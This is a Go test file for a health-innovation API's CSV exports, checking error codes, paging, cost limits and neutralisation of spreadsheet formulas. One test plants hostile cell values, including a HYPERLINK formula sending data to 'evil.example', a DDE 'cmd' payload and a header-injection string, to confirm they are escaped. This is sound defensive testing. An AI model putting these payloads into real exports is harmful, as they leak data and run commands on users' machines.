package httpapi_test

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hin-graph/hin-graph/internal/auth"
	"github.com/hin-graph/hin-graph/internal/hin"
	"github.com/hin-graph/hin-graph/internal/httpapi"
	"github.com/hin-graph/hin-graph/internal/seed"
	"github.com/hin-graph/hin-graph/internal/store"
	"github.com/hin-graph/hin-graph/internal/testdb"
)

// exportSize is a small demo: innovations, programmes, pilots with
// outcomes, and the demo collection with its non-submitters.
var exportSize = seed.DemoSize{PilotsPerRegion: 2, InnovationsPerRegion: 2, FirstFY: 2023, Years: 1}

// lockedBuffer is a log sink the server writes from many goroutines.
type lockedBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuffer) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuffer) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.String()
}

// exportServer serves the demo data with metrics on and its JSON log kept.
type exportServer struct {
	url     string
	db      *sql.DB
	srv     *httpapi.Server
	log     *lockedBuffer
	cfg     httpapi.Config
	tokenOf func(role, region string) string
}

func newExportServer(t *testing.T) *exportServer {
	t.Helper()
	db := testdb.NewDB(t, testdb.Demo(exportSize))
	cfg := httpapi.DefaultConfig()
	cfg.MetricsAddr = "127.0.0.1:0" // metrics on; served in process below, never listened on
	cfg.Tokens.HMACSecret = []byte(csvSecret)
	cfg.AnonymousRate.PerSecond, cfg.Rate.PerSecond = 0, 0 // these tests send many requests from one address
	logs := &lockedBuffer{}
	srv, err := httpapi.New(context.Background(), cfg, store.NewFromDB(db), slog.New(slog.NewJSONHandler(logs, nil)))
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(srv.Handler())
	t.Cleanup(ts.Close)
	return &exportServer{url: ts.URL, db: db, srv: srv, log: logs, cfg: cfg, tokenOf: func(role, region string) string {
		tok, err := auth.Mint(auth.MintConfig{Secret: []byte(csvSecret), Subject: "export-" + role, Role: role, RegionCode: region, TTL: time.Hour, Now: time.Now()})
		if err != nil {
			t.Fatal(err)
		}
		return tok
	}}
}

// metric reads one sample of the server's metrics, 0 when absent.
func (e *exportServer) metric(t *testing.T, name string, labels ...string) float64 {
	t.Helper()
	rec := httptest.NewRecorder()
	e.srv.MetricsHandler().ServeHTTP(rec, httptest.NewRequest("GET", "/metrics", nil))
	var total float64
	for _, line := range strings.Split(rec.Body.String(), "\n") {
		if !strings.HasPrefix(line, name+"{") {
			continue
		}
		match := true
		for _, l := range labels {
			match = match && strings.Contains(line, l)
		}
		if match {
			f := strings.Fields(line)
			v, _ := strconv.ParseFloat(f[len(f)-1], 64)
			total += v
		}
	}
	return total
}

// codedError decodes the one error of an error answer.
func codedError(t *testing.T, body string) (code, message string) {
	t.Helper()
	var env struct {
		Errors []struct {
			Message    string
			Extensions struct{ Code string }
		}
	}
	if err := json.Unmarshal([]byte(body), &env); err != nil || len(env.Errors) != 1 {
		t.Fatalf("not a coded error answer (%v): %.300s", err, body)
	}
	return env.Errors[0].Extensions.Code, env.Errors[0].Message
}

// Issue 18, hole 1: a bad filter on any export gets a coded 400 (it used to
// drop the connection: the error was written, then a CSV writer never made
// was flushed), and every such request reaches the access log and the
// metrics.
func TestExportBadFiltersGetCodedErrors(t *testing.T) {
	t.Parallel()
	e := newExportServer(t)
	regionID := hin.GlobalID(hin.KindRegion, hin.StableUUID("test", "a region"))
	cases := []struct{ path, code string }{
		{"/outcomes.csv?from=2024-05-01&to=2024-04-01", hin.EINVALID},
		{"/outcomes.csv?programmeIds=not-an-id", hin.EINVALID},
		{"/outcomes.csv?pilotIds=" + url.QueryEscape(regionID), hin.EINVALID},
		{"/outcomes.csv?innovationIds=%00", hin.EINVALID},
		{"/outcomes.csv?metricIds=x&statuses=LOST", hin.EINVALID},
		{"/outcomes.csv?from=yesterday", hin.EINVALID},
		{"/outcomes.csv?first=0", hin.EINVALID},
		{"/outcomes.csv?first=-1", hin.EINVALID},
		{"/outcomes.csv?first=lots", hin.EINVALID},
		{"/outcomes.csv?first=501", hin.EINVALID}, // anonymous: GraphQL's page limit
		{"/outcomes.csv?after=not-a-cursor", hin.EINVALID},
		{"/outcomes.csv?after=%00", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&from=2024-05-01&to=2024-04-01", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY2024-25&programmeIds=not-an-id", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY2024-25&innovationIds=%00", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=NOTHING&financialYear=FY2024-25", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY2024-25&asOf=now", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION&financialYear=FY2024-25&includeDrafts=maybe", hin.EINVALID},
		{"/figures/breakdown.csv?metrics=no_such_metric&groupBy=REGION&financialYear=FY2024-25", hin.EINVALID},
		{"/collections/non-submitters.csv", hin.EINVALID},
		{"/collections/non-submitters.csv?period=" + url.QueryEscape(regionID), hin.EINVALID},
	}
	for _, c := range cases {
		code, body, h := send(t, "GET", e.url+c.path, "", "")
		if code != http.StatusBadRequest || !strings.HasPrefix(h.Get("Content-Type"), "application/json") {
			t.Errorf("%s: %d %s %.300s, want 400 with a JSON error", c.path, code, h.Get("Content-Type"), body)
			continue
		}
		if got, msg := codedError(t, body); got != c.code || msg == "" {
			t.Errorf("%s: code %s message %q, want %s and a message", c.path, got, msg, c.code)
		}
	}
	// each request has its line in the access log and its count in the metrics
	logged := 0
	for _, line := range strings.Split(e.log.String(), "\n") {
		var l struct {
			Msg    string
			Path   string
			Status int
		}
		if json.Unmarshal([]byte(line), &l) == nil && l.Msg == "request" && l.Status == http.StatusBadRequest && strings.HasSuffix(l.Path, ".csv") {
			logged++
		}
	}
	if logged != len(cases) {
		t.Errorf("%d access-log lines for %d refused exports", logged, len(cases))
	}
	counted := 0.0
	for _, route := range []string{"/outcomes.csv", "/figures/breakdown.csv", "/collections/non-submitters.csv"} {
		counted += e.metric(t, "hingraph_http_requests_total", `route="`+route+`"`, `status="400"`)
	}
	if counted != float64(len(cases)) {
		t.Errorf("the metrics count %v refused exports, want %d", counted, len(cases))
	}
	if strings.Contains(e.log.String(), "panic") {
		t.Errorf("a bad filter panicked:\n%s", e.log.String())
	}
}

// gqlAs posts a GraphQL query to the server and returns the raw answer.
func (e *exportServer) gqlAs(t *testing.T, token, query string) string {
	t.Helper()
	b, _ := json.Marshal(map[string]any{"query": query})
	req, _ := http.NewRequest("POST", e.url+"/graphql", bytes.NewReader(b))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return string(body)
}

// Issue 18, hole 2: /outcomes.csv comes a page at a time, at most
// GraphQL's 500 rows without a token; pages follow each other by the Link
// header, with the cursors of the GraphQL outcomes list.
func TestOutcomesExportPages(t *testing.T) {
	t.Parallel()
	e := newExportServer(t)
	analyst := e.tokenOf("ANALYST", "")

	// the whole list in one page for a token holder (the demo holds fewer
	// than hin.MaxExportPageSize), as pages of 2 and 500 without one
	whole, pages, _ := exportAll(t, e.url, "/outcomes.csv?statuses=PUBLISHED", analyst) // the drafts the analyst sees are left out
	if pages != 1 || len(whole) <= hin.MaxPageSize {
		t.Fatalf("a token holder's export: %d rows in %d pages; the test needs more than %d in one", len(whole), pages, hin.MaxPageSize)
	}
	anon, pages, _ := exportAll(t, e.url, "/outcomes.csv?statuses=PUBLISHED", "")
	if want := (len(whole) + hin.MaxPageSize - 1) / hin.MaxPageSize; pages != want || len(anon) != len(whole) {
		t.Fatalf("anonymous export: %d rows in %d pages, want %d in %d", len(anon), pages, len(whole), want)
	}
	for i := range whole {
		if strings.Join(anon[i], ",") != strings.Join(whole[i], ",") {
			t.Fatalf("row %d: paged %v, whole %v", i, anon[i], whole[i])
		}
	}
	small, pages, _ := exportAll(t, e.url, "/outcomes.csv?regionCodes=HI-EM&first=2", "")
	if len(small) < 3 || pages != (len(small)+1)/2 {
		t.Fatalf("pages of 2: %d rows in %d pages", len(small), pages)
	}
	// a token holder may ask for more rows than GraphQL's page; nobody for more than the export's
	if code, body, _ := send(t, "GET", e.url+"/outcomes.csv?first=501", analyst, ""); code != http.StatusOK {
		t.Errorf("first=501 with a token: %d %.200s", code, body)
	}
	code, body, _ := send(t, "GET", e.url+fmt.Sprintf("/outcomes.csv?first=%d", hin.MaxExportPageSize+1), analyst, "")
	if c, _ := codedError(t, body); code != http.StatusBadRequest || c != hin.EINVALID {
		t.Errorf("first over the export's page with a token: %d %s", code, body)
	}
	// the export's cursor is the GraphQL list's
	_, _, h := send(t, "GET", e.url+"/outcomes.csv?regionCodes=HI-EM&first=2", "", "")
	answer := e.gqlAs(t, "", `{ outcomes(first: 2, filter: {regionCodes: ["HI-EM"]}) { pageInfo { endCursor } } }`)
	if cursor := h.Get("X-Next-Cursor"); cursor == "" || !strings.Contains(answer, `"endCursor":"`+cursor+`"`) {
		t.Errorf("export cursor %q, GraphQL %s", cursor, answer)
	}
}

// Issue 18, hole 2: /figures/breakdown.csv is costed with figureBreakdown's
// own cost function and refused over the caller's limit with GraphQL's
// code, message and rejection count.
func TestBreakdownExportIsCosted(t *testing.T) {
	t.Parallel()
	e := newExportServer(t)
	analyst := e.tokenOf("ANALYST", "")
	costOf := regexp.MustCompile(`up to (\d+) values`)
	const selection = `region { code } programme { code } innovation { id name } clinicalArea innovationStage
		period { start end label } value numerator denominator outcomeCount reportingCount`

	// the probe of the issue: four dimensions over 50 years
	before := e.metric(t, "hingraph_limit_rejections_total", `limit="cost"`)
	code, body, _ := send(t, "GET", e.url+"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=INNOVATION,PROGRAMME,REGION,MONTH&from=1975-01-01&to=2024-12-31", "", "")
	c, msg := codedError(t, body)
	if code != http.StatusBadRequest || c != hin.ECOSTLIMIT {
		t.Fatalf("the 50-year breakdown: %d %s", code, body)
	}
	answer := e.gqlAs(t, "", `{ figureBreakdown(metrics: ["patients_benefiting"], window: {from: "1975-01-01", to: "2024-12-31"},
		groupBy: [INNOVATION, PROGRAMME, REGION, MONTH]) { `+selection+` } }`)
	csvCost, gqlCost := costOf.FindStringSubmatch(msg), costOf.FindStringSubmatch(answer)
	if csvCost == nil || gqlCost == nil || csvCost[1] != gqlCost[1] || !strings.Contains(answer, hin.ECOSTLIMIT) {
		t.Errorf("the export's cost %v, GraphQL's %v: %s", csvCost, gqlCost, answer)
	}
	if after := e.metric(t, "hingraph_limit_rejections_total", `limit="cost"`); after != before+2 {
		t.Errorf("cost rejections counted %v, want %v", after, before+2)
	}
	if !strings.Contains(msg, "for callers without a token is 10000") {
		t.Errorf("message: %s", msg)
	}
	// 60 programmes by 12 months: over the anonymous limit, within a token holder's
	mid := "/figures/breakdown.csv?metrics=patients_benefiting&groupBy=PROGRAMME,MONTH&financialYear=FY2023-24"
	if code, body, _ := send(t, "GET", e.url+mid, "", ""); code != http.StatusBadRequest || !strings.Contains(body, hin.ECOSTLIMIT) {
		t.Errorf("anonymous programme-by-month breakdown: %d %.300s", code, body)
	}
	if code, body, _ := send(t, "GET", e.url+mid, analyst, ""); code != http.StatusOK {
		t.Errorf("the analyst's programme-by-month breakdown: %d %.300s", code, body)
	}
	if code, body, _ := send(t, "GET", e.url+"/figures/breakdown.csv?metrics=patients_benefiting&groupBy=REGION,QUARTER&financialYear=FY2023-24", "", ""); code != http.StatusOK {
		t.Errorf("a small anonymous breakdown: %d %.300s", code, body)
	}
}

// formulaStart is how a spreadsheet formula (or a cell hiding one) starts.
var formulaStart = regexp.MustCompile("^[=+\\-@\t\r]")

// checkCells fails for every cell of an export that a spreadsheet would
// run: one starting like a formula that is not a number we wrote.
func checkCells(t *testing.T, name, body string) [][]string {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	for i, r := range recs {
		for j, cell := range r {
			if _, isNumber := strconv.ParseFloat(cell, 64); formulaStart.MatchString(cell) && isNumber != nil {
				t.Errorf("%s line %d, %s: %q would run as a formula", name, i+1, recs[0][j], cell)
			}
		}
	}
	return recs
}

// Issue 18, hole 3: every text column of every export a region editor (or
// an admin) can fill is neutralised; numbers keep their sign.
func TestExportsNeutraliseFormulas(t *testing.T) {
	t.Parallel()
	e := newExportServer(t)
	admin := e.tokenOf("NATIONAL_ADMIN", "")
	ctx := context.Background()
	const (
		source     = `=HYPERLINK("http://evil.example/?leak="&A1,"Open report")`
		reason     = "@SUM(1+1)*cmd|' /C calc'!A0"
		innovation = "+Innovation with a formula"
		area       = "-2+3"
		programme  = "=PROG"
		region     = "\tEast Midlands"
		collection = "=Collection"
		collCode   = "-PSC\"; x=\"1" // also tries to break out of the file name
		comment    = "\r=1+1"
	)
	// one outcome of an innovation in a programme gets the hostile source;
	// another of the same innovation is withdrawn with the hostile reason
	var out struct {
		ID, Innovation, Programme, Metric string
		Start                             time.Time
	}
	err := e.db.QueryRowContext(ctx, `SELECT o.id, o.innovation_id, o.programme_id, m.code, o.period_start FROM outcome o JOIN metric m ON m.id = o.metric_id
		WHERE o.innovation_id IS NOT NULL AND o.programme_id IS NOT NULL AND o.status = 'PUBLISHED' ORDER BY o.period_start, o.id LIMIT 1`).
		Scan(&out.ID, &out.Innovation, &out.Programme, &out.Metric, &out.Start)
	if err != nil {
		t.Fatal(err)
	}
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`UPDATE outcome SET source = $1 WHERE id = $2`, []any{source, out.ID}},
		{`UPDATE outcome SET status = 'WITHDRAWN', withdrawn_at = now(), withdrawn_reason = $1 WHERE id = (SELECT id FROM outcome
			WHERE innovation_id = $2 AND status = 'PUBLISHED' AND id <> $3 ORDER BY period_start DESC LIMIT 1)`, []any{reason, out.Innovation, out.ID}},
		{`UPDATE innovation SET name = $1, clinical_area = $2 WHERE id = $3`, []any{innovation, area, out.Innovation}},
		{`UPDATE programme SET code = $1 WHERE id = $2`, []any{programme, out.Programme}},
		{`UPDATE region SET name = $1 WHERE id = (SELECT region_id FROM collection_submission WHERE state = 'RETURNED' ORDER BY id LIMIT 1)`, []any{region}},
		{`UPDATE collection SET name = $1, code = $2`, []any{collection, collCode}},
		{`UPDATE collection_submission SET return_comment = $1 WHERE state = 'RETURNED'`, []any{comment}},
	} {
		if _, err := e.db.ExecContext(ctx, q.sql, q.args...); err != nil {
			t.Fatalf("%s: %v", q.sql, err)
		}
	}
	found := map[string]bool{}
	find := func(recs [][]string, col string, want string) {
		t.Helper()
		j := -1
		for k, h := range recs[0] {
			if h == col {
				j = k
			}
		}
		// encoding/csv drops a lone carriage return when it writes CRLF lines:
		// "\r=1+1" unneutralised would arrive as a formula
		written := "'" + strings.ReplaceAll(want, "\r", "")
		for _, r := range recs[1:] {
			if j >= 0 && r[j] == written {
				found[col] = true
				return
			}
		}
		var got []string
		for _, r := range recs[1:] {
			if j >= 0 {
				got = append(got, r[j])
			}
		}
		t.Errorf("no %s of %q written as %q; the column holds %q", col, want, written, got)
	}

	// outcomes: the source and the withdrawal reason
	inn := url.QueryEscape(hin.GlobalID(hin.KindInnovation, out.Innovation))
	code, body, _ := send(t, "GET", e.url+"/outcomes.csv?innovationIds="+inn, admin, "")
	if code != http.StatusOK {
		t.Fatalf("outcomes: %d %.300s", code, body)
	}
	recs := checkCells(t, "outcomes.csv", body)
	find(recs, "source", source)
	find(recs, "withdrawn_reason", reason)

	// the breakdown: innovation name, clinical area and programme code
	fy := hin.FinancialYearLabel(hin.FinancialYearOf(out.Start))
	for _, c := range []struct{ groupBy, col, want string }{
		{"INNOVATION", "innovation_name", innovation}, {"CLINICAL_AREA", "clinical_area", area}, {"PROGRAMME", "programme_code", programme},
	} {
		path := fmt.Sprintf("/figures/breakdown.csv?metrics=%s&financialYear=%s&groupBy=%s&innovationIds=%s", out.Metric, fy, c.groupBy, inn)
		code, body, _ := send(t, "GET", e.url+path, admin, "")
		if code != http.StatusOK {
			t.Fatalf("%s: %d %.300s", path, code, body)
		}
		find(checkCells(t, "breakdown.csv by "+c.groupBy, body), c.col, c.want)
	}

	// non-submitters: the collection's name, a region's name, a return comment
	var period string
	if err := e.db.QueryRowContext(ctx, `SELECT period_id FROM collection_submission WHERE state = 'RETURNED' ORDER BY id LIMIT 1`).Scan(&period); err != nil {
		t.Fatal(err)
	}
	code, body, h := send(t, "GET", e.url+"/collections/non-submitters.csv?period="+url.QueryEscape(hin.GlobalID(hin.KindCollectionPeriod, period)), admin, "")
	if code != http.StatusOK {
		t.Fatalf("non-submitters: %d %.300s", code, body)
	}
	if cd := h.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="non-submitters-[A-Za-z0-9.-]+\.csv"$`).MatchString(cd) {
		t.Errorf("Content-Disposition %q", cd)
	}
	recs = checkCells(t, "non-submitters.csv", body)
	find(recs, "collection_name", collection)
	find(recs, "return_comment", comment)
	find(recs, "region_name", region)
	find(recs, "collection_code", collCode)
	if len(found) != 9 {
		t.Errorf("found %d of the 9 planted cells: %v", len(found), found)
	}
}
